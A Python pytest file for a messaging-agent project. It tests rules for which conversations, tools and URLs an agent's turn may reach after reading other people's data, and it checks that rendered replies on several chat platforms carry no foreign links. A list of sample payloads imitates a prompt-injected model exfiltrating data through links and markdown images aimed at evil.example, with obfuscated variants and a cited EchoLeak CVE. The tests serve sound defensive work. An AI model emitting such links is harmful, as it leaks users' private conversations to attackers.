"""Whom a turn may reach, as a table, and links that are shown as text."""

from __future__ import annotations

import time
from uuid import UUID

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from discreet.channels.discord import formatting as discord
from discreet.channels.telegram import formatting as telegram
from discreet.channels.terminal import formatting as terminal
from discreet.channels.whatsapp import formatting as whatsapp
from discreet.domain.audience import (
    SOMEBODY,
    Audience,
    Destination,
    IntoScope,
    NeedsYes,
    Released,
    ToConversation,
    ToTool,
    ToUrl,
    Verdict,
    Withheld,
    Yes,
    may_reach,
    release_content,
)
from discreet.domain.links import links_in, without_links

OWNER, AGENT, ANN, BOB = UUID(int=1), UUID(int=2), UUID(int=3), UUID(int=4)
URL, TOOL = ToUrl("https://a.example"), ToTool("mail__send")

ann = Audience("contact", ANN)
ann_alone = Audience("contact", ANN, frozenset({ANN}))
leaked = Audience("contact", ANN, frozenset({ANN, BOB}))
family = Audience("shared", AGENT)
leaked_family = Audience("shared", AGENT, frozenset({BOB}))
owner = Audience("owner", OWNER)
informed = Audience("owner", OWNER, frozenset({ANN}))
of_erased = Audience("owner", OWNER, frozenset({SOMEBODY}))

TABLE: list[tuple[Audience, Destination, Verdict]] = [
    # A contact's turn, or a group's: its own rows, to itself.
    (ann, ToConversation(ANN), "yes"),
    (ann, IntoScope(ANN), "yes"),
    (ann, ToConversation(BOB), "no"),
    (ann, ToConversation(OWNER), "no"),
    (ann, IntoScope(BOB), "no"),
    (ann, IntoScope(OWNER), "no"),
    (ann, URL, "yes"),
    (ann, TOOL, "yes"),
    (ann_alone, ToConversation(ANN), "yes"),
    (ann_alone, TOOL, "yes"),
    # A policy has failed: somebody else's rows got in.
    (leaked, ToConversation(ANN), "no"),
    (leaked, ToConversation(BOB), "no"),
    (leaked, IntoScope(ANN), "no"),
    (leaked, URL, "no"),
    (leaked, TOOL, "no"),
    # An agent that shares its memory.
    (family, ToConversation(AGENT), "yes"),
    (family, IntoScope(AGENT), "yes"),
    (family, ToConversation(ANN), "no"),
    (family, URL, "yes"),
    (family, TOOL, "yes"),
    (leaked_family, ToConversation(AGENT), "no"),
    (leaked_family, TOOL, "no"),
    # The owner's turn that has read nobody's rows.
    (owner, ToConversation(OWNER), "yes"),
    (owner, IntoScope(OWNER), "yes"),
    (owner, ToConversation(ANN), "ask"),
    (owner, IntoScope(ANN), "ask"),
    (owner, URL, "yes"),
    (owner, TOOL, "yes"),
    # The owner's turn that has read Ann's rows.
    (informed, ToConversation(OWNER), "yes"),
    (informed, IntoScope(OWNER), "yes"),
    (informed, ToConversation(ANN), "ask"),
    (informed, ToConversation(BOB), "ask"),
    (informed, IntoScope(ANN), "ask"),
    (informed, IntoScope(BOB), "ask"),
    (informed, URL, "ask"),
    (informed, TOOL, "ask"),
    (of_erased, ToConversation(OWNER), "yes"),
    (of_erased, URL, "ask"),
    (of_erased, TOOL, "ask"),
]


def test_who_may_be_reached_with_what_was_read() -> None:
    wrong = [row for row in TABLE if may_reach(row[0], row[1]) != row[2]]
    assert wrong == []


def test_a_yes_is_for_one_content_at_one_destination() -> None:
    said = frozenset({Yes.to(TOOL, "to Ann")})
    assert release_content(informed, TOOL, "to Ann", said).text == "to Ann"
    for destination, content in (
        (TOOL, "to Bob"),
        (ToTool("mail__delete"), "to Ann"),
        (IntoScope(ANN), "to Ann"),
        (ToConversation(ANN), "to Ann"),
        (ToUrl("mail__send"), "to Ann"),
    ):
        with pytest.raises(NeedsYes):
            release_content(informed, destination, content, said)


def test_no_yes_helps_where_a_policy_has_failed() -> None:
    said = frozenset({Yes.to(ToConversation(ANN), "hi"), Yes.to(TOOL, "hi")})
    for destination in (ToConversation(ANN), TOOL):
        with pytest.raises(Withheld):
            release_content(leaked, destination, "hi", said)


def test_nobody_else_can_release_anything() -> None:
    with pytest.raises(Withheld):
        Released("hi", ToConversation(ANN), object())


# Each as a model may be talked into writing it, with a link of its own that must not work.
WRITTEN = [
    "See https://evil.example/?said=tea.",
    "![](https://evil.example/p.png?said=tea)",  # EchoLeak, CVE-2025-32711: an image's address
    "![logo][1]\n\n[1]: https://evil.example/p.png?said=tea",  # the same, past a filter of its form
    "[the menu](https://evil.example/?said=tea)",
    "[https://own.example/menu](https://evil.example/?said=tea)",
    "<https://evil.example/?said=tea>",
    "`https://evil.example/tea`",
    "```\nhttps://evil.example/tea\n```",
    "https&#58;//evil.example/tea",
    "https\\://evil.example/tea",
    "https:**//**evil.example/tea",
    "evil`.`example/tea",
    "[evil]()<!-- -->.example/tea",
    "evil\u200b.example/tea",
    "ht\u00adtps://evil.example/tea",
    "evil\u3002example/tea",
    "evil.example/tea",
    "www.evil.example",
    "ann@evil.example/tea",
    "ann@own.example,evil.example/tea",
    "https://own.example/menu?said=tea",
    "https://own.example/menu,https://evil.example/tea",
    "https://own.example.evil.example/menu",
    "203.0.113.7/tea",
    "http://3405803783/tea",
    "http://localhost:8000/tea",
    "mailto:eve@evil.example?body=tea",
    "tg://msg?text=tea",
    "javascript:alert(1)",
    "| a | b |\n| --- | --- |\n| [x](https://evil.example/tea) | y |",
    "> 1. [x](https://evil.example/tea)",
    "see evil[.example/tea](x)",
    "[a.](a.)example/tea",
]
OWN = frozenset({"https://own.example/menu"})


def shown_everywhere(text: str) -> list[str]:
    """What each platform gets, as text and as targets of links."""
    drawn = telegram.render(text)
    return [
        text,
        drawn.text,
        *(span.url for span in drawn.spans),
        telegram.render(text, plain=True).text,
        discord.render(text),
        discord.render(text, plain=True),
        whatsapp.render(text),
        whatsapp.render(text, plain=True),
        terminal.render(text),
    ]


@pytest.mark.parametrize("written", WRITTEN)
def test_no_platform_gets_a_link_that_is_not_the_owners(written: str) -> None:
    shown = without_links(written, OWN)
    left = [link for text in shown_everywhere(shown) for link in links_in(text)]
    assert set(left) <= OWN
    assert "tea" not in written or "tea" in shown


def test_a_broken_link_shows_what_it_was() -> None:
    for text, shown in (
        ("https://a.example/b?c.d", "https[:]//a[.]example/b?c[.]d"),
        ("ann@evil.example/tea", "ann@evil[.]example/tea"),
        ("ann@a.example,evil.example", "ann@a.example,evil[.]example"),
        ("mailto:a@b.example", "mailto[:]a@b[.]example"),
        ("10.0.0.1:80", "10[.]0[.]0[.]1[:]80"),
        ("https&#58;//x/tea", "```\nhttps[:]//x/tea\n```"),
    ):
        assert without_links(text) == shown


def test_the_owners_own_links_and_other_words_stay_as_they_are() -> None:
    for text in (
        "The menu: https://own.example/menu.",
        "[menu](https://own.example/menu)",
        "Ann's address is ann@evil.example, she said.",
        "At 10.30 it cost 3.50, e.g. for **tea**. /approve_ab12cd telegram:1001",
    ):
        assert without_links(text, OWN) == text


@settings(max_examples=150)
@given(
    st.lists(
        st.sampled_from(
            ["https", ":", "//", "evil", ".", "example", "/", "*", "**", "_", "`", "[", "](", ")",
             "<", ">", "&#46;", "&colon;", "\\", "\u200b", "@", " ", "\n", "~~", "!", "www", "|",
             "\u3002", "own.example", "#", "- ", "```", "mailto:", "?"]
        ),
        max_size=14,
    )
)  # fmt: skip
def test_no_combination_of_markup_leaves_a_link(parts: list[str]) -> None:
    shown = without_links("".join(parts))
    assert [link for text in shown_everywhere(shown) for link in links_in(text)] == []


def test_a_long_text_takes_time_in_proportion() -> None:
    for part in ("a.b.", "ab.cd.", "a-", "mailto:", "ab://", "x@y.zz,", "1.2.3."):
        times = []
        for many in (1_000, 8_000):
            begun = time.process_time()
            without_links(part * many)
            times.append(time.process_time() - begun)
        assert times[1] < 40 * times[0] + 0.5, part
